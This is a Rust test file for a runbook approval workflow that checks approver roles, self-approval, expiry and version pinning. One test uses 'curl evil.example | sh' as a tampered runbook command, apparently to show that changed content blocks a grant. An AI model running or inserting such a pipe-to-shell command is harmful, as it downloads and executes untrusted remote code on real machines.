#![allow(clippy::unwrap_used)]

use chrono::{DateTime, Duration, Utc};
use cqrs_es::test::{AggregateTestExecutor, TestFramework};
use cqrs_es::{Aggregate, DomainEvent};
use uuid::Uuid;

use super::*;
use crate::runbook::{PinMismatch, RunbookContent, RunbookPin};
use crate::testing::{actor, now, services, services_at, tenant_id};
use crate::values::{Actor, ApprovalId, IncidentId, InstanceId, Note, Risk, Role, RunbookId};

fn given(events: Vec<ApprovalEvent>) -> AggregateTestExecutor<Approval> {
    TestFramework::<Approval>::with(services()).given(events)
}

fn given_at(at: DateTime<Utc>, events: Vec<ApprovalEvent>) -> AggregateTestExecutor<Approval> {
    TestFramework::<Approval>::with(services_at(at)).given(events)
}

fn approval_id() -> ApprovalId {
    ApprovalId::from_uuid(Uuid::from_u128(0xa))
}

fn runbook_id() -> RunbookId {
    RunbookId::from_uuid(Uuid::from_u128(0xb))
}

fn incident_id() -> IncidentId {
    IncidentId::from_uuid(Uuid::from_u128(0xc))
}

fn expires_at() -> DateTime<Utc> {
    now() + Duration::hours(1)
}

fn requester() -> Actor {
    actor("tech-1", Role::Technician)
}

/// Version 2 of a runbook restarting the app on one instance.
fn pin() -> RunbookPin {
    RunbookPin::new(2, content("systemctl restart app"))
}

fn content(command: &str) -> RunbookContent {
    RunbookContent {
        document: "AWS-RunShellScript".to_owned(),
        commands: vec![command.to_owned()],
        parameters: Default::default(),
        risk: Risk::Medium,
        instance_ids: vec![InstanceId::parse("i-0123456789abcdef0").unwrap()],
    }
}

fn reason() -> Option<Note> {
    Some(Note::parse("safe to restart now").unwrap())
}

fn request(risk: Risk) -> ApprovalCommand {
    ApprovalCommand::RequestApproval {
        approval_id: approval_id(),
        tenant_id: tenant_id(),
        runbook_id: runbook_id(),
        incident_id: incident_id(),
        risk,
        requested_by: requester(),
        expires_at: expires_at(),
        pin: pin(),
    }
}

fn requested(risk: Risk) -> ApprovalEvent {
    ApprovalEvent::ApprovalRequested {
        tenant_id: tenant_id(),
        approval_id: approval_id(),
        runbook_id: runbook_id(),
        incident_id: incident_id(),
        risk,
        requested_by: requester(),
        expires_at: expires_at(),
        at: now(),
        pin: Some(pin()),
    }
}

fn grant(approver: Actor) -> ApprovalCommand {
    ApprovalCommand::GrantApproval {
        approver,
        reason: reason(),
        runbook_now: pin(),
    }
}

fn reject(approver: Actor) -> ApprovalCommand {
    ApprovalCommand::RejectApproval {
        approver,
        reason: reason(),
    }
}

fn granted(approver: Actor) -> ApprovalEvent {
    ApprovalEvent::ApprovalGranted {
        tenant_id: tenant_id(),
        runbook_id: runbook_id(),
        incident_id: incident_id(),
        approver,
        reason: reason(),
        at: now(),
    }
}

fn rejected(approver: Actor) -> ApprovalEvent {
    ApprovalEvent::ApprovalRejected {
        tenant_id: tenant_id(),
        runbook_id: runbook_id(),
        incident_id: incident_id(),
        approver,
        reason: reason(),
        at: now(),
    }
}

fn expired() -> ApprovalEvent {
    ApprovalEvent::ApprovalExpired {
        tenant_id: tenant_id(),
        at: expires_at(),
    }
}

fn tenant_admin() -> Actor {
    actor("admin-1", Role::TenantAdmin)
}

fn msp_admin() -> Actor {
    actor("msp-1", Role::MspAdmin)
}

#[test]
fn requesting_approval_for_a_medium_risk_run_records_it() {
    given(vec![])
        .when(request(Risk::Medium))
        .then_expect_events(vec![requested(Risk::Medium)]);
}

#[test]
fn requesting_approval_twice_is_rejected() {
    given(vec![requested(Risk::Medium)])
        .when(request(Risk::Medium))
        .then_expect_error(ApprovalError::AlreadyRequested);
}

#[test]
fn requesting_approval_for_a_low_risk_run_is_rejected() {
    given(vec![])
        .when(request(Risk::Low))
        .then_expect_error(ApprovalError::ApprovalNotNeeded);
}

#[test]
fn requesting_approval_that_expires_immediately_is_rejected() {
    given_at(expires_at(), vec![])
        .when(request(Risk::High))
        .then_expect_error(ApprovalError::ExpiresInPast);
}

#[test]
fn deciding_or_expiring_before_a_request_is_rejected() {
    for command in [
        grant(tenant_admin()),
        reject(tenant_admin()),
        ApprovalCommand::ExpireApproval,
    ] {
        given(vec![])
            .when(command)
            .then_expect_error(ApprovalError::NotRequested);
    }
}

#[test]
fn a_tenant_admin_grants_a_medium_risk_run() {
    given(vec![requested(Risk::Medium)])
        .when(grant(tenant_admin()))
        .then_expect_events(vec![granted(tenant_admin())]);
}

#[test]
fn an_msp_admin_grants_a_high_risk_run() {
    given(vec![requested(Risk::High)])
        .when(grant(msp_admin()))
        .then_expect_events(vec![granted(msp_admin())]);
}

#[test]
fn a_tenant_admin_cannot_grant_a_high_risk_run() {
    given(vec![requested(Risk::High)])
        .when(grant(tenant_admin()))
        .then_expect_error(ApprovalError::InsufficientRole {
            role: Role::TenantAdmin,
            risk: Risk::High,
        });
}

#[test]
fn a_technician_cannot_grant_a_medium_risk_run() {
    given(vec![requested(Risk::Medium)])
        .when(grant(actor("tech-2", Role::Technician)))
        .then_expect_error(ApprovalError::InsufficientRole {
            role: Role::Technician,
            risk: Risk::Medium,
        });
}

#[test]
fn a_viewer_cannot_decide_any_approval() {
    for risk in [Risk::Medium, Risk::High] {
        let viewer = actor("viewer-1", Role::Viewer);
        given(vec![requested(risk)])
            .when(grant(viewer.clone()))
            .then_expect_error(ApprovalError::InsufficientRole {
                role: Role::Viewer,
                risk,
            });
        given(vec![requested(risk)])
            .when(reject(viewer))
            .then_expect_error(ApprovalError::InsufficientRole {
                role: Role::Viewer,
                risk,
            });
    }
}

#[test]
fn granting_your_own_request_is_rejected_even_for_an_msp_admin() {
    let own = ApprovalEvent::ApprovalRequested {
        tenant_id: tenant_id(),
        approval_id: approval_id(),
        runbook_id: runbook_id(),
        incident_id: incident_id(),
        risk: Risk::High,
        requested_by: msp_admin(),
        expires_at: expires_at(),
        at: now(),
        pin: Some(pin()),
    };
    given(vec![own])
        .when(grant(msp_admin()))
        .then_expect_error(ApprovalError::SelfApproval);
}

#[test]
fn rejecting_your_own_request_is_rejected() {
    given(vec![requested(Risk::Medium)])
        .when(reject(actor("tech-1", Role::TenantAdmin)))
        .then_expect_error(ApprovalError::SelfApproval);
}

#[test]
fn rejecting_records_who_and_why() {
    given(vec![requested(Risk::Medium)])
        .when(reject(tenant_admin()))
        .then_expect_events(vec![rejected(tenant_admin())]);
}

#[test]
fn rejecting_with_an_insufficient_role_is_rejected() {
    given(vec![requested(Risk::High)])
        .when(reject(tenant_admin()))
        .then_expect_error(ApprovalError::InsufficientRole {
            role: Role::TenantAdmin,
            risk: Risk::High,
        });
}

#[test]
fn granting_at_or_after_the_expiry_time_is_rejected() {
    given_at(expires_at(), vec![requested(Risk::Medium)])
        .when(grant(tenant_admin()))
        .then_expect_error(ApprovalError::Expired);
}

#[test]
fn granting_just_before_the_expiry_time_is_allowed() {
    let at = expires_at() - Duration::seconds(1);
    let result = given_at(at, vec![requested(Risk::Medium)])
        .when(grant(tenant_admin()))
        .inspect_result();
    assert!(matches!(
        result.unwrap().as_slice(),
        [ApprovalEvent::ApprovalGranted { at: decided, .. }] if *decided == at
    ));
}

#[test]
fn rejecting_after_the_expiry_time_is_rejected() {
    given_at(
        expires_at() + Duration::minutes(1),
        vec![requested(Risk::Medium)],
    )
    .when(reject(tenant_admin()))
    .then_expect_error(ApprovalError::Expired);
}

#[test]
fn deciding_a_granted_approval_again_is_rejected() {
    for command in [grant(msp_admin()), reject(msp_admin())] {
        given(vec![requested(Risk::Medium), granted(tenant_admin())])
            .when(command)
            .then_expect_error(ApprovalError::AlreadyDecided {
                status: ApprovalStatus::Granted,
            });
    }
}

#[test]
fn deciding_a_rejected_approval_again_is_rejected() {
    given(vec![requested(Risk::Medium), rejected(tenant_admin())])
        .when(grant(msp_admin()))
        .then_expect_error(ApprovalError::AlreadyDecided {
            status: ApprovalStatus::Rejected,
        });
}

#[test]
fn deciding_an_expired_approval_is_rejected() {
    given(vec![requested(Risk::Medium), expired()])
        .when(grant(tenant_admin()))
        .then_expect_error(ApprovalError::AlreadyDecided {
            status: ApprovalStatus::Expired,
        });
}

#[test]
fn expiring_at_the_expiry_time_records_it() {
    given_at(expires_at(), vec![requested(Risk::Medium)])
        .when(ApprovalCommand::ExpireApproval)
        .then_expect_events(vec![expired()]);
}

#[test]
fn expiring_before_the_expiry_time_is_rejected() {
    given(vec![requested(Risk::Medium)])
        .when(ApprovalCommand::ExpireApproval)
        .then_expect_error(ApprovalError::NotYetExpired {
            expires_at: expires_at(),
        });
}

#[test]
fn expiring_a_decided_approval_is_rejected() {
    given_at(
        expires_at(),
        vec![requested(Risk::Medium), granted(tenant_admin())],
    )
    .when(ApprovalCommand::ExpireApproval)
    .then_expect_error(ApprovalError::AlreadyDecided {
        status: ApprovalStatus::Granted,
    });
    given_at(expires_at(), vec![requested(Risk::Medium), expired()])
        .when(ApprovalCommand::ExpireApproval)
        .then_expect_error(ApprovalError::AlreadyDecided {
            status: ApprovalStatus::Expired,
        });
}

#[test]
fn the_folded_state_shows_the_status_and_expiry() {
    let mut approval = Approval::default();
    approval.apply(requested(Risk::High));
    assert_eq!(approval.status(), ApprovalStatus::Pending);
    assert_eq!(approval.expires_at(), Some(expires_at()));
    assert_eq!(approval.tenant_id(), Some(tenant_id()));
    approval.apply(rejected(msp_admin()));
    assert_eq!(approval.status(), ApprovalStatus::Rejected);
}

#[test]
fn approval_events_serialize_externally_tagged_with_their_tenant() {
    let event = requested(Risk::High);
    assert_eq!(event.event_type(), "ApprovalRequested");
    assert_eq!(event.event_version(), "1.0");
    let json = serde_json::to_value(&event).unwrap();
    assert_eq!(json.as_object().unwrap().len(), 1);
    let body = &json["ApprovalRequested"];
    assert_eq!(body["tenant_id"], tenant_id().to_string());
    assert_eq!(body["risk"], "high");
    assert_eq!(body["expires_at"], "2026-03-14T10:26:53Z");
    assert_eq!(body["at"], "2026-03-14T09:26:53Z");
    assert_eq!(
        serde_json::from_value::<ApprovalEvent>(json).unwrap(),
        event
    );
}

#[test]
fn a_grant_of_a_runbook_changed_since_the_request_is_refused_naming_the_versions() {
    let changed = RunbookPin::new(3, content("curl evil.example | sh"));
    given(vec![requested(Risk::Medium)])
        .when(ApprovalCommand::GrantApproval {
            approver: tenant_admin(),
            reason: None,
            runbook_now: changed,
        })
        .then_expect_error(ApprovalError::RunbookChanged(PinMismatch {
            approved_version: 2,
            current_version: 3,
            changed: vec!["commands"],
        }));
    // Renamed only (a new version, the same content): still what was reviewed.
    given(vec![requested(Risk::Medium)])
        .when(ApprovalCommand::GrantApproval {
            approver: tenant_admin(),
            reason: reason(),
            runbook_now: RunbookPin::new(3, content("systemctl restart app")),
        })
        .then_expect_events(vec![granted(tenant_admin())]);
}

#[test]
fn a_request_recorded_before_pinning_still_replays_but_cannot_be_granted() {
    let mut stored = serde_json::to_value(requested(Risk::Medium)).unwrap();
    stored["ApprovalRequested"]
        .as_object_mut()
        .unwrap()
        .remove("pin");
    let old: ApprovalEvent = serde_json::from_value(stored).unwrap();
    given(vec![old.clone()])
        .when(grant(tenant_admin()))
        .then_expect_error(ApprovalError::NotPinned);
    given(vec![old])
        .when(reject(tenant_admin()))
        .then_expect_events(vec![rejected(tenant_admin())]);
}
